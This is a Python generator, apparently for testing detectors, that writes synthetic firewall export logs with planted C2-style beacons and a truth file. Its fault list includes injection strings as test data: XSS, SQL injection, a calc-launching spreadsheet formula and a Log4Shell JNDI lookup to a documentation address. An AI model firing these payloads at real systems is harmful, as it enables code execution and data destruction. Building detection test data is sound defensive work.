"""Write firewall logs with planted beacons, as Log Analytics data export writes them.

    python -m samples OUT [--days 4] [--rows-per-day 40000] [--seed 7] [--faults all]

OUT gets the folder tree of an exported CommonSecurityLog table and `truth.json`, which says what
was planted and counts every line by kind. The same options give the same bytes.

Traffic is made as people make it: heavy-tailed sources and destinations, a daily rhythm, bursts
with log-normal gaps. Whatever keeps time is an implant, or polls a popular destination, or is
listed under `benign` in truth.json.
Public addresses are documentation and benchmark ranges only: 192.0.2.0/24 (popular services),
198.51.100.0/24 (inbound), 198.18.0.0/15 (the long tail), 203.0.113.0/24 (planted), 2001:db8::/32.
"""

from __future__ import annotations

import datetime as dt
import enum
import ipaddress
import json
import math
import re
import shutil
import sys
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Annotated, Any

import numpy as np
import typer
from numpy.typing import ArrayLike
from rich.console import Console
from rich.progress import Progress

MADE_BY = "python -m samples"
TABLE_FOLDER = "am-commonsecuritylog"
EXPORT_ROOT = (
    f"{TABLE_FOLDER}/WorkspaceResourceId=/subscriptions/00000000-0000-0000-0000-000000000001/"
    "resourcegroups/soc-rg/providers/microsoft.operationalinsights/workspaces/soc-ws"
)
MINIMUM_ROWS_PER_DAY = 20_000  # below it, the services that every day has leave no room for people

TICKS = 10_000_000  # a second: TimeGenerated has 7 fractional digits
DAY_SECONDS = 86_400
SLOT_SECONDS = 300  # data export writes a folder for every five minutes
SLOTS = DAY_SECONDS // SLOT_SECONDS

# ------------------------------------------------------------------------------- the network


@dataclass(frozen=True)
class Service:
    """What runs on a destination: its port, its IP protocol number and what firewalls call it."""

    name: str
    port: int | None
    protocol: int
    app: str


# fmt: off
SERVICES = (
    Service("https", 443, 6, "ssl"),             Service("http", 80, 6, "web-browsing"),
    Service("quic", 443, 17, "quic"),            Service("dns", 53, 17, "dns"),
    Service("ntp", 123, 17, "ntp"),              Service("imaps", 993, 6, "imap"),
    Service("smtp", 25, 6, "smtp"),              Service("ssh", 22, 6, "ssh"),
    Service("https-alt", 8443, 6, "ssl"),        Service("http-proxy", 8080, 6, "web-browsing"),
    Service("mtls", 8888, 6, "unknown-tcp"),     Service("ping", None, 1, "ping"),
    Service("smb", 445, 6, "ms-ds-smb"),         Service("ldap", 389, 6, "ldap"),
    Service("kerberos", 88, 6, "kerberos"),      Service("mssql", 1433, 6, "mssql-db"),
    Service("rdp", 3389, 6, "ms-rdp"),           Service("print", 9100, 6, "hp-jetdirect"),
    Service("snmp", 161, 17, "snmp"),            Service("mdns", 5353, 17, "mdns"),
    Service("ssdp", 1900, 17, "ssdp"),           Service("dhcp", 67, 17, "dhcp"),
    Service("netbios", 137, 17, "netbios-ns"),
)
# fmt: on
SERVICE = {service.name: number for number, service in enumerate(SERVICES)}
PROTOCOL_NAMES = {1: "icmp", 6: "tcp", 17: "udp"}


class Format(enum.IntEnum):
    """How a gateway writes a row."""

    FORTINET = 0
    PAN_OS = 1
    PAN_CDL = 2  # Strata logging: event class and activity the other way round
    CHECK_POINT = 3
    ZSCALER = 4


@dataclass(frozen=True)
class Gateway:
    """A firewall, and the share of the clients behind it."""

    name: str
    vendor: str
    format: Format
    client_share: float
    protocol_style: str


# Two spellings of Check Point and one left empty are what a real table holds.
GATEWAYS = (
    Gateway("FGT-HQ-01", "Fortinet", Format.FORTINET, 0.40, "number"),
    Gateway("FGT-BR-02", "Fortinet", Format.FORTINET, 0.22, "upper"),
    Gateway("PA-DC-01", "Palo Alto Networks", Format.PAN_OS, 0.12, "lower"),
    Gateway("PA-CDL-01", "Palo Alto Networks", Format.PAN_CDL, 0.08, "lower"),
    Gateway("CP-DMZ-01", "Check Point", Format.CHECK_POINT, 0.07, "with service"),
    Gateway("CP-OLD-02", "CheckPoint", Format.CHECK_POINT, 0.02, "upper"),
    Gateway("CP-LAB-03", "", Format.CHECK_POINT, 0.01, "upper"),
    Gateway("ZS-NSS-01", "Zscaler", Format.ZSCALER, 0.08, "none"),
)
HQ, DATA_CENTRE = 0, 2
GATEWAY_FORMAT = np.array([gateway.format for gateway in GATEWAYS], np.uint8)
GATEWAY_VENDOR = np.array([gateway.vendor for gateway in GATEWAYS])


class Direction(enum.IntEnum):
    """Where a row goes, seen from the organisation."""

    EGRESS = 0
    INTERNAL = 1
    INBOUND = 2
    MULTICAST = 3


class Log(enum.IntEnum):
    """What a row records. Only the first two are connections."""

    CONNECTION = 0
    DENIED = 1
    INTERIM = 2  # FortiGate class 00020: a statistic of a session that is still open
    UTM = 3  # FortiGate: what inspection saw in a session that is logged elsewhere
    THREAT = 4  # Palo Alto Networks, likewise
    START = 5  # Palo Alto Networks: the same session is logged again at its end


@dataclass(frozen=True)
class PopularService:
    """A destination that everybody reaches; with an interval, some clients poll it.

    Intervals and noise in seconds; `row_share` is the part of a day's rows that is polling.
    """

    name: str
    address: str
    service: str
    interval_seconds: tuple[int, ...] = ()
    noise_seconds: float = 0.0
    row_share: float = 0.0


POPULAR = (
    PopularService("telemetry.example.com", "192.0.2.80", "https", (60,), 0.5, 0.05),
    PopularService("ntp.example.net", "192.0.2.123", "ntp", (64, 128, 256, 512, 1024), 0.8, 0.03),
    PopularService("mail.example.org", "192.0.2.25", "imaps", (300,), 1.5, 0.02),
    PopularService("antivirus.example.com", "192.0.2.90", "https", (900,), 5.0, 0.01),
    PopularService("updates.example.com", "192.0.2.10", "https", (3600,), 60.0, 0.01),
    PopularService("dns.example.net", "192.0.2.53", "dns"),
    *(PopularService(f"www{i}.example.com", f"192.0.2.{100 + i}", "https") for i in range(1, 11)),
)
POLLERS_IN_TRUTH = 2  # per service, and the least that a service has


@dataclass(frozen=True)
class Implant:
    """A planted C2 implant. Sleep and gaps in seconds; active for `hours` of the last day.

    A gap between check-ins is drawn uniformly from [shortest_gap, longest_gap]; what the network
    takes, at most `NETWORK_NOISE_SECONDS`, comes on top.
    """

    id: str
    family: str
    sleep: float
    jitter_percent: float
    shortest_gap: float
    longest_gap: float
    service: str
    start_hour: float
    hours: float
    note: str
    gateway: int = HQ
    ipv6: bool = False
    denied: bool = False
    every_day: bool = False


NETWORK_NOISE_SECONDS = 0.9
_COBALT_STRIKE = "subtracts jitter: sleep * (1 - U * jitter), U uniform in [0, 1]"
# fmt: off
IMPLANTS = (
    Implant("empire_5s", "PowerShell Empire", 5, 0, 5, 5, "https", 10, 2,
            "its default delay; jitter 0, network noise only"),
    Implant("empire_60s", "PowerShell Empire", 60, 0, 60, 60, "http", 0, 24,
            "its default jitter, which is 0; where set, Empire adds and subtracts it"),
    Implant("cobalt_strike_60s_0", "Cobalt Strike", 60, 0, 60, 60, "https", 0, 24, _COBALT_STRIKE),
    Implant("cobalt_strike_60s_20", "Cobalt Strike", 60, 20, 48, 60, "https", 9, 8, _COBALT_STRIKE),
    Implant("cobalt_strike_60s_37", "Cobalt Strike", 60, 37, 37.8, 60, "https", 0, 24,
            _COBALT_STRIKE),
    Implant("cobalt_strike_60s_50", "Cobalt Strike", 60, 50, 30, 60, "http", 6, 12, _COBALT_STRIKE),
    Implant("sliver_60s", "Sliver", 60, 50, 60, 90, "mtls", 0, 24,
            "adds jitter: sleep + U * 30 s, its default"),
    Implant("hourly", "low and slow", 3600, 0, 3600, 3600, "https", 0, 24,
            "one beat an hour on every day", every_day=True),
    Implant("palo_alto_60s", "generic", 60, 0, 60, 60, "https-alt", 8, 8,
            "the finding of a second vendor", gateway=DATA_CENTRE),
    Implant("denied_30s", "generic", 30, 0, 30, 30, "http-proxy", 12, 6,
            "the firewall blocks every connection; the host is infected all the same", denied=True),
    Implant("ipv6_60s", "generic", 60, 0, 60, 60, "https", 10, 10,
            "source in fd00::/8, destination in 2001:db8::/32", ipv6=True),
)
# fmt: on
INTERIM_SECONDS = 120
HEAVY_PAIR_ROWS = 500  # a day
HOST_BACKGROUND_ROWS = 130  # a day and planted host: a source below 100 events is not looked at

# ------------------------------------------------------------------------------------- faults


class Skew(str, enum.Enum):
    """What half of the background events have in common."""

    NONE = "none"
    SOURCE = "source"
    DESTINATION = "destination"


@dataclass(frozen=True)
class Fault:
    """A kind of line other than a clean one.

    `expect` is what a reader should make of it: a `row`, a `reject`, or a `duplicate` of a row.
    `rate` is per row, or per file for half-written lines. Lines that are `added` come on top of
    the generated rows; the others are rows that were altered or moved.
    """

    option: str
    expect: str
    rate: float
    added: bool = False


FAULTS = {
    "not_json": Fault("malformed", "reject", 1 / 2000, added=True),
    "binary": Fault("malformed", "reject", 1 / 2000, added=True),
    "hostile_text": Fault("malformed", "row", 1 / 2000, added=True),
    "invalid_address": Fault("malformed", "reject", 1 / 2000, added=True),
    "invalid_port": Fault("malformed", "reject", 1 / 2000, added=True),
    "invalid_time": Fault("malformed", "reject", 1 / 2000, added=True),
    "half_written": Fault("half_written", "reject", 1 / 20, added=True),
    "duplicate_same_item_id": Fault("duplicates", "duplicate", 1 / 300, added=True),
    "duplicate_no_item_id": Fault("duplicates", "duplicate", 1 / 600, added=True),
    "no_item_id": Fault("duplicates", "row", 0.0),  # the first copy of duplicate_no_item_id
    "late_appended": Fault("late", "row", 1 / 300),
    "late_next_day_folder": Fault("late", "row", 1 / 1000),
    "quoted_numbers": Fault("quoted_numbers", "row", 1 / 50),
    "missing_optional_columns": Fault("missing_columns", "row", 1 / 400),
    "missing_needed_column": Fault("missing_columns", "reject", 1 / 1000),
    "portal_date_seconds": Fault("portal_dates", "row", 1 / 800),
    "portal_date_milliseconds": Fault("portal_dates", "row", 1 / 800),
}
FAULT_OPTIONS = (
    *dict.fromkeys(fault.option for fault in FAULTS.values()),
    "overflow_files",
    "missing_day",
)
OVERFLOW_RATE = 1 / 20  # of the folders have PT05M_1.json
SHORT_NAME_RATE = 1 / 20  # of the folders have PT5M.json
# truth.json promises the events of the planted pairs: no fault may unmake or move their rows.
KEEP_PLANTED_ROWS = {
    "duplicate_same_item_id",
    "duplicate_no_item_id",
    "late_appended",
    "quoted_numbers",
}
QUOTED_COLUMNS = ("SourcePort", "DestinationPort", "SentBytes", "ReceivedBytes")
OPTIONAL_COLUMNS = (
    "SentBytes",
    "ReceivedBytes",
    "ApplicationProtocol",
    "Computer",
    "SourceIP",
    "DestinationIP",
)
NEEDED_COLUMNS = ("TimeGenerated",)
ADDRESS_COLUMNS = ("SourceIP", "DestinationIP")
INVALID_ADDRESSES = ("999.1.2.3", "10.0.0.256", "10.1.2", "2001:db8:::1", "not-an-ip")
INVALID_PORTS = (99999, -1, 70000, "https")
INVALID_TIMES = ("yesterday", "2026-13-45T99:99:99.0000000Z", "0000-00-00", "")
HOSTILE_COLUMNS = ("Message", "SourceUserName", "SourceHostName", "RequestURL", "DeviceName")
HOSTILE_TEXTS = (
    "<script>alert('row')</script><img src=x onerror=alert(1)>",
    "'; drop table common_security_log; -- \" or 1=1",
    'quote " backslash \\ slash / tab \t newline \n return \r null \x00 escape \x1b[31m red',
    "=cmd|' /C calc'!A0",
    "{{ var('end_date') }} ${jndi:ldap://192.0.2.66/a} %s %n {0}",
    "\u202etxt.exe\u2028\u00e9\u4e2d\U0001f4a3",
    "A" * 100_000,
)


class GeneratorError(Exception):
    """A request that can not be met; the message is for the person who made it."""


# ------------------------------------------------------------------------ addresses and hosts


@dataclass(frozen=True)
class Poller:
    """A client that polls a popular service every `interval` seconds while it is switched on."""

    source: int
    interval: int
    start_second: float
    stop_second: float


@dataclass
class World:
    """Every address, by number, with what rows need of it; clients have the first numbers.

    `groups` names ranges of addresses; `service` and `gateway` are an address's as destination
    and as source; `client_cdf` holds the cumulative activity of `clients`.
    """

    addresses: list[str] = field(default_factory=list)
    service: np.ndarray = field(default_factory=lambda: np.empty(0, np.uint8))
    gateway: np.ndarray = field(default_factory=lambda: np.empty(0, np.uint8))
    groups: dict[str, np.ndarray] = field(default_factory=dict)
    is_ipv6: np.ndarray = field(default_factory=lambda: np.empty(0, bool))
    clients: np.ndarray = field(default_factory=lambda: np.empty(0, np.int32))
    client_cdf: np.ndarray = field(default_factory=lambda: np.empty(0))
    favourites: np.ndarray = field(default_factory=lambda: np.empty((0, 0), np.int32))
    pollers: list[list[Poller]] = field(default_factory=list)

    def add(
        self, group: str, addresses: list[str], services: ArrayLike, gateways: ArrayLike = HQ
    ) -> None:
        """Append a group of addresses; services and gateways are one number or one for each."""
        first, count = len(self.addresses), len(addresses)
        self.addresses += addresses
        self.groups[group] = np.arange(first, first + count, dtype=np.int32)
        self.service = np.append(self.service, np.broadcast_to(services, count)).astype(np.uint8)
        self.gateway = np.append(self.gateway, np.broadcast_to(gateways, count)).astype(np.uint8)
        self.is_ipv6 = np.append(self.is_ipv6, [":" in address for address in addresses])

    def with_vendor(self, vendor: str) -> np.ndarray:
        """Give the ordinary IPv4 clients behind the gateways of a vendor."""
        clients = self.groups["clients"]
        return clients[(GATEWAY_VENDOR[self.gateway[clients]] == vendor) & ~self.is_ipv6[clients]]

    def gateway_of(self, rows: np.ndarray) -> np.ndarray:
        """Give the number of the gateway that wrote each row."""
        inbound = rows["direction"] == Direction.INBOUND
        return self.gateway[np.where(inbound, rows["destination"], rows["source"])]


def _zipf_cdf(count: int, exponent: float) -> np.ndarray:
    weights = np.arange(1, count + 1) ** -exponent
    return np.cumsum(weights) / weights.sum()


def _draw(rng: np.random.Generator, cdf: np.ndarray, count: int) -> np.ndarray:
    """Draw ranks 0, 1, … with the cumulative probabilities `cdf`."""
    ranks = np.searchsorted(cdf, rng.random(count), side="right")
    return np.minimum(ranks, len(cdf) - 1).astype(np.int32)


def _client_address(number: int, ipv6: bool) -> str:
    site, host = number % 4, number // 4
    if ipv6:
        return f"fd12:3456:789a:{site + 1:x}::{host + 0x100:x}"
    network = ("10.20", "10.30", "172.20", "192.168")[site]
    return f"{network}.{host // 200 + 1}.{host % 200 + 10}"


def _build_world(rng: np.random.Generator, rows_per_day: int) -> World:
    """Lay out clients, servers and destinations, as many as the rows need."""

    def services(*names: str) -> list[int]:
        return [SERVICE[name] for name in names]

    world, https = World(), SERVICE["https"]
    count = max(300, int(1.5 * math.sqrt(rows_per_day)))
    shares = np.cumsum([gateway.client_share for gateway in GATEWAYS])
    behind = np.searchsorted(shares[:-1], (np.arange(count) + 0.5) / count)
    addresses = [_client_address(i, behind[i] == HQ and i % 5 == 4) for i in range(count)]
    world.add("clients", addresses, https, behind)
    hosts = [(implant.ipv6, implant.gateway) for implant in IMPLANTS]
    hosts += [(False, HQ)] * 2  # of the interim session and of the heavy pair
    addresses = [_client_address(count + i, ipv6) for i, (ipv6, _) in enumerate(hosts)]
    world.add("planted_hosts", addresses, https, [gateway for _, gateway in hosts])

    inside = services("smb", "ldap", "kerberos", "dns", "https", "mssql", "rdp", "print", "snmp")
    addresses = [f"10.1.{i // 200}.{i % 200 + 10}" for i in range(max(45, count // 10))]
    world.add("servers", addresses, np.resize(inside, len(addresses)))
    addresses = [f"fd12:3456:789a:ff::{i + 16:x}" for i in range(len(inside))]
    world.add("servers_ipv6", addresses, inside)
    dmz = np.resize(services("https", "smtp", "http", "imaps"), 14)
    world.add("dmz", [f"172.16.0.{i + 10}" for i in range(14)], dmz, np.arange(14) % 7)

    world.add("popular", [p.address for p in POPULAR], services(*(p.service for p in POPULAR)))
    count = min(max(4_000, rows_per_day // 8), 100_000)
    first = int(ipaddress.ip_address("198.18.0.0"))
    offsets = (np.arange(count) * 40_503 + 1) % 2**17  # odd factor: no address comes twice
    addresses = [str(ipaddress.ip_address(first + offset)) for offset in offsets.tolist()]
    others = rng.choice(services("http", "https-alt", "ssh", "imaps"), count)
    world.add("tail", addresses, np.where(rng.random(count) < 0.85, https, others))
    addresses = [f"2001:db8:{i // 256 + 1:x}::{i % 256 + 16:x}" for i in range(600)]
    world.add("tail_ipv6", addresses, https)
    world.add("outside", [f"198.51.100.{i}" for i in range(10, 250)], https)
    addresses = [
        f"2001:db8:bad::{i + 16:x}" if implant.ipv6 else f"203.0.113.{i + 10}"
        for i, implant in enumerate(IMPLANTS)
    ]
    planted = services(*(implant.service for implant in IMPLANTS), "https", "https")
    world.add("planted", [*addresses, "203.0.113.200", "203.0.113.210"], planted)
    addresses = ["224.0.0.251", "239.255.255.250", "255.255.255.255", "10.20.255.255", "ff02::fb"]
    world.add("multicast", addresses, services("mdns", "ssdp", "dhcp", "netbios", "mdns"))

    clients = rng.permutation(world.groups["clients"])  # activity does not follow the address
    weights = np.arange(1, len(clients) + 1) ** -0.8
    weights = np.concatenate([weights, np.full(len(hosts), np.median(weights))])
    world.clients = np.concatenate([clients, world.groups["planted_hosts"]])
    world.client_cdf = np.cumsum(weights) / weights.sum()
    ranks = _draw(rng, _zipf_cdf(len(world.groups["tail"]), 0.6), len(world.clients) * 6)
    world.favourites = world.groups["tail"][ranks].reshape(-1, 6)
    world.pollers = [_choose_pollers(rng, world, popular, rows_per_day) for popular in POPULAR]
    return world


def _choose_pollers(
    rng: np.random.Generator, world: World, popular: PopularService, rows_per_day: int
) -> list[Poller]:
    """Choose who polls a service; few clients where the day is small, but the same every day."""
    if not popular.interval_seconds:
        return []
    pollers: list[Poller] = []
    budget = popular.row_share * rows_per_day
    clients = np.append(world.with_vendor("Fortinet"), world.with_vendor("Palo Alto Networks"))
    for number, source in enumerate(rng.permutation(clients).tolist()):
        interval = popular.interval_seconds[number % len(popular.interval_seconds)]
        start = rng.uniform(7, 9) * 3600
        poller = Poller(source, interval, start, start + rng.uniform(7, 9) * 3600)
        budget -= (poller.stop_second - start) / interval
        if budget < 0 and number >= POLLERS_IN_TRUTH:
            break
        pollers.append(poller)
    return pollers


# ------------------------------------------------------------------------------ a day of rows

ROW = np.dtype(
    [
        ("tick", np.int64),  # since midnight
        ("source", np.int32),  # address numbers
        ("destination", np.int32),
        ("sent", np.int32),  # bytes
        ("received", np.int32),
        ("service", np.uint8),
        ("log", np.uint8),
        ("direction", np.uint8),
        ("planted", np.bool_),  # belongs to an entry of truth.json
    ]
)
# Relative activity by hour, from midnight.
RHYTHM = [3, 2, 2, 2, 2, 3, 5, 8, 12, 14, 14, 13, 11, 13, 14, 14, 13, 11, 8, 7, 6, 5, 4, 3]


def _times_of_day(rng: np.random.Generator, count: int) -> np.ndarray:
    """Draw seconds since midnight with the daily rhythm."""
    cdf = np.append(0, np.cumsum(RHYTHM)) / sum(RHYTHM)
    return np.interp(rng.random(count), cdf, np.arange(25) * 3600.0)


def _human_times(rng: np.random.Generator, count: int) -> tuple[np.ndarray, np.ndarray]:
    """Draw times as people make them: sessions of log-normal length with log-normal gaps.

    Returns
    -------
    tuple
        Ticks since midnight, shape (count,), and the number of each event's session.
    """
    draws = count if count < 5000 else count // 5  # a session has 10 events in the mean
    sizes = 1 + np.minimum(rng.lognormal(math.log(5), 1.1, draws), 300).astype(np.int64)
    session = np.repeat(np.arange(draws, dtype=np.int32), sizes)[:count]
    first = np.flatnonzero(np.diff(session, prepend=-1))
    gaps = np.minimum(rng.lognormal(math.log(2.5), 1.5, count), 900)
    gaps[first] = 0
    elapsed = np.cumsum(gaps)
    elapsed -= elapsed[first][session]
    seconds = (_times_of_day(rng, len(first))[session] + elapsed) % DAY_SECONDS
    return (seconds * TICKS).astype(np.int64), session


def _bytes(rng: np.random.Generator, median: float, sigma: float, count: int) -> np.ndarray:
    return np.minimum(rng.lognormal(math.log(median), sigma, count), 2e9).astype(np.int32)


def _fill_sizes(rng: np.random.Generator, rows: np.ndarray) -> None:
    allowed = rows["log"] != Log.DENIED
    rows["sent"] = _bytes(rng, 1_400, 1.2, len(rows)) * allowed
    rows["received"] = _bytes(rng, 5_200, 1.6, len(rows)) * allowed


def _fill_sessions(rng: np.random.Generator, world: World, rows: np.ndarray) -> np.ndarray:
    """Give rows the times and clients of human sessions; returns each row's session."""
    rows["tick"], session = _human_times(rng, len(rows))
    rows["source"] = world.clients[_draw(rng, world.client_cdf, int(session[-1]) + 1)][session]
    return session


def _move_off_proxy(rng: np.random.Generator, world: World, rows: np.ndarray) -> None:
    """Give other clients to rows that a web proxy can not see."""
    proxied = np.flatnonzero(GATEWAY_FORMAT[world.gateway[rows["source"]]] == Format.ZSCALER)
    rows["source"][proxied] = rng.choice(world.with_vendor("Fortinet"), len(proxied))


def _fill_browsing(
    rng: np.random.Generator, world: World, rows: np.ndarray, source: int | None = None
) -> None:
    """Fill rows with what people do on the internet; of one source, or of all."""
    session = _fill_sessions(rng, world, rows)
    if source is not None:
        rows["source"] = source
    popular, tail, ipv6 = (world.groups[name] for name in ("popular", "tail", "tail_ipv6"))
    popular_cdf, tail_cdf = _zipf_cdf(len(popular), 0.7), _zipf_cdf(len(tail), 0.9)

    def destinations(sources: np.ndarray) -> np.ndarray:
        count = len(sources)
        choice, rank = rng.random(count), rng.integers(0, world.favourites.shape[1], count)
        chosen = np.where(
            choice < 0.5,
            popular[_draw(rng, popular_cdf, count)],
            world.favourites[sources, rank],
        )
        return np.where(choice < 0.75, chosen, tail[_draw(rng, tail_cdf, count)])

    # A session has one site, and a page loads from other places too.
    first = np.flatnonzero(np.diff(session, prepend=-1))
    site = destinations(rows["source"][first])[session]
    elsewhere = rng.random(len(rows)) < 0.45
    rows["destination"] = np.where(elsewhere, destinations(rows["source"]), site)
    over_ipv6 = np.flatnonzero(world.is_ipv6[rows["source"]])
    ranks = _draw(rng, _zipf_cdf(len(ipv6), 0.9), len(over_ipv6))
    rows["destination"][over_ipv6] = ipv6[ranks]

    service = world.service[rows["destination"]]
    other, web = rng.random(len(rows)), service == SERVICE["https"]
    service[web & (other < 0.06)] = SERVICE["quic"]
    service[web & (other > 0.95)] = SERVICE["http"]
    service[(other > 0.06) & (other < 0.07)] = SERVICE["ping"]
    rows["service"] = service
    rows["direction"] = Direction.EGRESS
    rows["log"] = np.where(rng.random(len(rows)) < 0.03, Log.DENIED, Log.CONNECTION)
    _fill_sizes(rng, rows)


def _fill_internal(rng: np.random.Generator, world: World, rows: np.ndarray) -> None:
    _fill_sessions(rng, world, rows)
    _move_off_proxy(rng, world, rows)
    servers = world.groups["servers"]
    rows["destination"] = servers[_draw(rng, _zipf_cdf(len(servers), 0.8), len(rows))]
    over_ipv6 = np.flatnonzero(world.is_ipv6[rows["source"]])
    rows["destination"][over_ipv6] = rng.choice(world.groups["servers_ipv6"], len(over_ipv6))
    rows["service"] = world.service[rows["destination"]]
    rows["direction"] = Direction.INTERNAL
    rows["log"] = np.where(rng.random(len(rows)) < 0.02, Log.DENIED, Log.CONNECTION)
    _fill_sizes(rng, rows)


def _fill_inbound(rng: np.random.Generator, world: World, rows: np.ndarray) -> None:
    session = _fill_sessions(rng, world, rows)
    rows["source"] = rng.choice(world.groups["outside"], int(session[-1]) + 1)[session]
    rows["destination"] = rng.choice(world.groups["dmz"], len(rows))
    scans = rng.random(len(rows)) < 0.5
    scanned = [SERVICE[name] for name in ("ssh", "rdp", "smb", "http-proxy", "ping")]
    served = world.service[rows["destination"]]
    rows["service"] = np.where(scans, rng.choice(scanned, len(rows)), served)
    rows["direction"] = Direction.INBOUND
    rows["log"] = np.where(scans, Log.DENIED, Log.CONNECTION)
    _fill_sizes(rng, rows)


def _fill_multicast(rng: np.random.Generator, world: World, rows: np.ndarray) -> None:
    _fill_sessions(rng, world, rows)
    _move_off_proxy(rng, world, rows)
    groups = world.groups["multicast"]
    chosen = rng.integers(0, len(groups) - 1, len(rows))
    chosen[world.is_ipv6[rows["source"]]] = len(groups) - 1  # the only IPv6 group
    rows["destination"] = groups[chosen]
    rows["service"] = world.service[rows["destination"]]
    rows["direction"] = Direction.MULTICAST
    broadcast = (chosen == 2) | (chosen == 3)
    rows["log"] = np.where(broadcast, Log.DENIED, Log.CONNECTION)
    rows["sent"] = _bytes(rng, 220, 0.6, len(rows))


def _poll_rows(rng: np.random.Generator, popular: PopularService, poller: Poller) -> np.ndarray:
    start = poller.start_second + rng.uniform(0, poller.interval)
    seconds = np.arange(start, poller.stop_second, poller.interval)
    seconds += rng.uniform(-0.5, 0.5, len(seconds)) * popular.noise_seconds
    rows = np.zeros(len(seconds), ROW)
    rows["tick"] = (seconds * TICKS).astype(np.int64)
    rows["source"] = poller.source
    if popular.service == "ntp":
        rows["sent"] = rows["received"] = 76
    else:
        rows["sent"] = _bytes(rng, 1_900, 0.3, len(rows))
        rows["received"] = _bytes(rng, 4_200, 0.5, len(rows))
    return rows


def _reach_rows(rng: np.random.Generator, world: World) -> np.ndarray:
    """Let many sources of both vendors reach a popular destination today, each once."""
    parts = []
    for vendor, least in (("Fortinet", 40), ("Palo Alto Networks", 30)):
        clients = world.with_vendor(vendor)
        parts.append(rng.choice(clients, max(least, len(clients) // 10), replace=False))
    rows = np.zeros(sum(map(len, parts)), ROW)
    rows["tick"] = (_times_of_day(rng, len(rows)) * TICKS).astype(np.int64)
    rows["source"] = np.concatenate(parts)
    _fill_sizes(rng, rows)
    return rows


def _fixed_rows(rng: np.random.Generator, world: World, last_day: bool) -> np.ndarray:
    """Make what every day has: popular services, hosts of implants, and benign near misses."""
    parts = []
    addresses = world.groups["popular"].tolist()
    for popular, address, pollers in zip(POPULAR, addresses, world.pollers, strict=True):
        polls = [_poll_rows(rng, popular, poller) for poller in pollers]
        rows = np.concatenate([_reach_rows(rng, world), *polls])
        rows["destination"], rows["service"] = address, SERVICE[popular.service]
        parts.append(rows)
    for host in world.groups["planted_hosts"].tolist():
        rows = np.zeros(HOST_BACKGROUND_ROWS, ROW)
        _fill_browsing(rng, world, rows, source=host)
        rows["log"] = Log.CONNECTION
        parts.append(rows)

    heavy = np.zeros(HEAVY_PAIR_ROWS, ROW)
    heavy["tick"], _ = _human_times(rng, len(heavy))
    heavy["source"] = world.groups["planted_hosts"][-1]
    heavy["destination"] = world.groups["planted"][-1]
    _fill_sizes(rng, heavy)
    parts.append(heavy)
    if last_day:
        interim = np.zeros(DAY_SECONDS // INTERIM_SECONDS, ROW)
        interim["tick"] = (np.arange(len(interim)) * INTERIM_SECONDS + 7) * TICKS
        interim["tick"] += rng.integers(0, TICKS // 50, len(interim))
        interim["source"] = world.groups["planted_hosts"][-2]
        interim["destination"] = world.groups["planted"][-2]
        interim["log"] = Log.INTERIM
        interim["sent"] = np.cumsum(rng.integers(800, 1200, len(interim)))  # of all so far
        interim["received"] = np.cumsum(rng.integers(2000, 3000, len(interim)))
        parts.append(interim)
    return np.concatenate(parts)


def _compose_day(
    rng: np.random.Generator,
    world: World,
    rows_per_day: int,
    skew: Skew,
    last_day: bool,
    implants: np.ndarray,
) -> np.ndarray:
    """Make a day's rows in order of time: exactly `rows_per_day`, and the implants on top."""
    rows = np.zeros(rows_per_day + len(implants), ROW)
    used = 0

    def take(count: int) -> np.ndarray:
        nonlocal used
        used += count
        return rows[used - count : used]

    take(len(implants))[:] = implants
    fixed = _fixed_rows(rng, world, last_day)
    take(len(fixed))[:] = fixed
    if skew is not Skew.NONE:
        half = take(rows_per_day // 2)
        source = int(world.with_vendor("Fortinet")[0]) if skew is Skew.SOURCE else None
        _fill_browsing(rng, world, half, source)
        if skew is Skew.DESTINATION:
            half["destination"], half["service"] = world.groups["popular"][-1], SERVICE["https"]
    free = len(rows) - used
    _fill_internal(rng, world, take(int(0.36 * free)))
    _fill_inbound(rng, world, take(int(0.07 * free)))
    _fill_multicast(rng, world, take(int(0.03 * free)))
    companions = (
        (Log.UTM, "Fortinet", int(0.025 * free)),
        (Log.THREAT, "Palo Alto Networks", int(0.010 * free)),
        (Log.START, "Palo Alto Networks", int(0.015 * free)),
    )
    browsing = take(len(rows) - used - sum(count for *_, count in companions))
    _fill_browsing(rng, world, browsing)
    vendor = GATEWAY_VENDOR[world.gateway[browsing["source"]]]
    for log, of_vendor, count in companions:
        of = np.flatnonzero((vendor == of_vendor) & (browsing["log"] == Log.CONNECTION))
        part = take(count)
        part[:] = browsing[rng.choice(of, count)]
        session_length = rng.lognormal(math.log(0.8), 1.0, count) * TICKS
        part["tick"] = np.maximum(part["tick"] - session_length.astype(np.int64), 0)
        part["log"] = log
    return rows[np.argsort(rows["tick"], kind="stable")]


def _implant_rows(
    rng: np.random.Generator, world: World, implant: Implant, number: int, days: int
) -> np.ndarray:
    """Make an implant's check-ins; ticks count from midnight of the first day."""
    start, stop = 0.0, float(days * DAY_SECONDS)
    if not implant.every_day:
        start = (days - 1) * DAY_SECONDS + implant.start_hour * 3600
        stop = start + implant.hours * 3600
    count = int((stop - start) / implant.shortest_gap) + 1
    gaps = rng.uniform(implant.shortest_gap, implant.longest_gap, count)
    gaps += np.minimum(rng.lognormal(math.log(0.12), 0.6, count), NETWORK_NOISE_SECONDS)
    seconds = start + rng.uniform(0, 5) + np.append(0, np.cumsum(gaps))
    seconds = seconds[seconds < stop]
    rows = np.zeros(len(seconds), ROW)
    rows["tick"] = (seconds * TICKS).astype(np.int64)
    rows["source"] = world.groups["planted_hosts"][number]
    rows["destination"] = world.groups["planted"][number]
    rows["service"] = SERVICE[implant.service]
    if implant.denied:
        rows["log"] = Log.DENIED
        return rows
    # Idle, an implant says and hears the same each time; a task or its result is larger.
    rows["sent"] = rng.integers(300, 900)
    rows["received"] = rng.integers(300, 900) + rng.choice(
        [0, 4, 16], len(rows), p=[0.93, 0.05, 0.02]
    )
    tasked = np.flatnonzero(rng.random(len(rows)) < 0.015)
    rows["sent"][tasked] += _bytes(rng, 9_000, 0.8, len(tasked))
    rows["received"][tasked] += _bytes(rng, 30_000, 1.0, len(tasked))
    return rows


# -------------------------------------------------------------------------------- rows as text


def _fragment(**columns: str | int) -> str:
    """Render columns as the beginning of a JSON object, without its brace."""
    return json.dumps(columns, separators=(",", ":"))[1:-1] + ","


class Template:
    """A line of JSON with places for `%(name)` values.

    `fragments` name values that hold whole columns, as `_fragment` makes them. Among `columns`, a
    value that is only `%(name)d` becomes a number. All other text goes through `json.dumps` here,
    once, so that the hot path needs none.
    """

